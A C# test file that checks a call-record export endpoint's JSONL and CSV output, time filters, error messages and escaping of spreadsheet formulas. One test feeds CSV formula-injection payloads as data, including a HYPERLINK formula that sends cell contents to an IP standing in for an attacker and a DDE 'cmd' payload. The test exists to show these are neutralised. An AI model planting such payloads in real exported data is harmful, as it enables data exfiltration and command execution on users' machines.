using System.Text.Json;
using Switchhook.Calls;
using Switchhook.Calls.Commands;
using Switchhook.Calls.Hangup;

namespace Switchhook.Server.Tests.Native;

public sealed class NativeExportTests
{
    private const string Export = "/switchhook/v1/calls/export";

    [Fact]
    public async Task Every_ended_call_of_the_account_is_a_line_oldest_first()
    {
        await using var server = await NativeServer.StartAsync();
        var ids = new List<string>();
        for (var i = 0; i < 1203; i++)
            ids.Add((await EndAsync(server, "demo")).Id.ToString());
        await EndAsync(server, "other");

        var answer = await server.GetAsync(Export);

        var lines = answer.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(ids, lines.Select(line => JsonDocument.Parse(line).RootElement.GetProperty("id").GetString()));
    }

    [Fact]
    public async Task Csv_has_a_header_and_a_row_a_call_with_quoted_texts()
    {
        await using var server = await NativeServer.StartAsync();
        var call = await EndAsync(server, "demo", tag: "a \"b\", c");

        var answer = await server.GetAsync($"{Export}?format=csv");

        var lines = answer.Text.Split("\r\n");
        Assert.Equal(3, lines.Length);
        Assert.StartsWith("id,direction,caller,", lines[0], StringComparison.Ordinal);
        Assert.Equal(
            $"{call.Id},Internal,100,,811,811,2026-01-31T08:00:00.000000Z,2026-01-31T08:00:00.000001Z,,2026-01-31T08:00:02.000000Z,0.000,487,ORIGINATOR_CANCEL,api,native/demo,native,demo,\"a \"\"b\"\", c\"",
            lines[1]);
        Assert.Equal("", lines[2]);
    }

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://192.0.2.1/?\"\"&A1,\"\"x\"\")\"")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("+6561234567", "+6561234567")]
    [InlineData("a\r\nb", "\"a\r\nb\"")]
    [InlineData("O'Neil; x", "O'Neil; x")]
    public async Task Csv_holds_nothing_that_a_spreadsheet_works_out(string tag, string cell)
    {
        await using var server = await NativeServer.StartAsync();
        await EndAsync(server, "demo", tag);

        var answer = await server.GetAsync($"{Export}?format=csv");

        Assert.EndsWith($",{cell}\r\n", answer.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("since=2026-01-31T08:00:00Z&until=2026-01-31T08:00:01Z", 1)]
    [InlineData("since=2026-01-31T08:00:01Z", 0)]
    [InlineData("until=2026-01-31T08:00:00Z", 0)]
    public async Task Times_bound_what_is_exported(string query, int lines)
    {
        await using var server = await NativeServer.StartAsync();
        await EndAsync(server, "demo");

        var answer = await server.GetAsync($"{Export}?{query}");

        Assert.Equal((200, lines), (answer.Status, answer.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length));
    }

    [Theory]
    [InlineData("format=xml", "format: must be one of jsonl, csv")]
    [InlineData("since=yesterday", "since: must be a time")]
    [InlineData("until=x", "until: must be a time")]
    public async Task A_bad_question_is_a_problem_that_names_the_mistake(string query, string mistake)
    {
        await using var server = await NativeServer.StartAsync();

        var answer = await server.GetAsync($"{Export}?{query}");

        Assert.Equal(400, answer.Status);
        Assert.Contains(mistake, answer.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_store_that_is_down_is_a_503()
    {
        await using var server = await NativeServer.StartAsync();
        server.Exchange.StorageIsDown = true;

        var answer = await server.GetAsync(Export);

        Assert.Equal(503, answer.Status);
    }

    private static async Task<Call> EndAsync(NativeServer server, string account, string? tag = null)
    {
        var call = server.Exchange.Place(new CallCommand.Originate
        {
            Dialect = "native",
            Account = account,
            Caller = new Party("100"),
            Dialed = "811",
            Then = new OnAnswer.Wait(),
            Callbacks = new CallCallbacks(Tag: tag),
        });
        var reply = await server.Exchange.AskAsync(new CallCommand.HangUp(call.Id, new HangupBy.Api("native", account)), default);
        return reply.Call!;
    }
}
